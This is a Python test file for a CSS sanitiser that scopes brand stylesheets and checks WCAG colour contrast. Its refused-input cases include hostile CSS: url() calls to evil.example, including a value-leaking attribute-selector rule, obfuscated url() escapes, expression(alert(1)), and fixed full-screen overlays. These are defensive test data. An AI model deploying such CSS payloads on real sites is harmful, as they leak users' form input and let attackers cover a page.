"""A brand's CSS stays in its scope and fetches nothing, whatever is written; colours are judged as WCAG judges them."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from branding.colours import AA, contrast, readable_on
from branding.stylesheet import SCOPE, clean_stylesheet

COLOURS = st.from_regex(r"#[0-9a-f]{6}", fullmatch=True)


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        ("a{color:red}", ".brand-styled a{color:red}"),
        (":root{--x:1px}", ".brand-styled{--x:1px}"),
        ("body p, h1{margin:0}", ".brand-styled p,.brand-styled h1{margin:0}"),
        ("a{color:red !important}", ".brand-styled a{color:red !important}"),
        ("@media (min-width: 40em){a{color:red}}", "@media (min-width: 40em){.brand-styled a{color:red}}"),
        ("/* note */ a{color:red}", ".brand-styled a{color:red}"),
    ],
)
def test_rules_are_kept_in_their_scope(source: str, kept: str) -> None:
    found = clean_stylesheet(source)
    assert (found.css, found.problems) == (kept, [])


@pytest.mark.parametrize(
    "source",
    [
        "@import 'https://evil.example/x.css';",
        "@font-face{font-family:x;src:url(https://evil.example)}",
        "a{background:url(https://evil.example/?leak)}",
        "a{background:URL('https://evil.example')}",
        "a{background:u\\72l(https://evil.example)}",
        "a{background:image-set('https://evil.example' 1x)}",
        "input[value^='a']{background:url(//evil.example/a)}",
        "a{behavior:url(x.htc)}",
        "a{width:expression(alert(1))}",
        "a{--x:url(https://evil.example)}",
        "@media all{a{background:url(https://evil.example)}}",
        "@supports (background:url(https://evil.example)){a{color:red}}",
        ".overlay{position:fixed;inset:0}",
        ".overlay{position:FI\\58 ED;inset:0}",
        ".overlay{position:env(x, fixed)}",
        "a{background:-webkit-cross-fade(url(https://evil.example), url(x), 50%)}",
        "a{b{color:red}}",
        "@layer x{a{color:red}}",
        "x" * 20_001,
    ],
)
def test_what_fetches_or_covers_is_refused_and_told(source: str) -> None:
    found = clean_stylesheet(source)
    assert "evil" not in found.css
    assert "fixed" not in found.css
    assert found.problems or found.css == ""


@pytest.mark.parametrize(
    "source",
    [
        "a{--p:fixed;position:var(--p)}",
        "a{position:-webkit-sticky}",
        "a{position:calc(1)}",
        "a{z-index:5}",
        "a{z-index:2147483647 !important}",
        "a{--z:99;z-index:var(--z)}",
        "a{z-index:calc(9 * 9)}",
        "a{z-index:4.5}",
    ],
)
def test_nothing_lies_over_the_header(source: str) -> None:
    found = clean_stylesheet(source)
    assert "position:" not in found.css
    assert "z-index" not in found.css
    assert found.problems


def test_places_within_the_page_are_the_brands_own() -> None:
    found = clean_stylesheet("a{position:relative}b{position:ABSOLUTE;z-index:-1}i{position:inherit;z-index:auto}")
    assert found.problems == []
    assert found.css.count("position") == 3


@given(st.text(max_size=400))
def test_nothing_gets_out_of_its_scope(source: str) -> None:
    css = clean_stylesheet(source).css
    assert "url(" not in css.lower()
    assert "<" not in css
    assert css.count("{") == 0 or SCOPE in css


@pytest.mark.parametrize(
    ("one", "other", "ratio"), [("#000000", "#ffffff", 21.0), ("#ffffff", "#ffffff", 1.0), ("#777777", "#ffffff", 4.48)]
)
def test_contrast_is_wcags(one: str, other: str, ratio: float) -> None:
    assert contrast(one, other) == pytest.approx(ratio, abs=0.01)


@given(COLOURS, COLOURS)
def test_contrast_is_symmetric_and_bounded(one: str, other: str) -> None:
    assert contrast(one, other) == contrast(other, one)
    assert 1 <= contrast(one, other) <= 21


@given(COLOURS)
def test_black_or_white_can_always_be_read(background: str) -> None:
    assert contrast(readable_on(background), background) >= AA
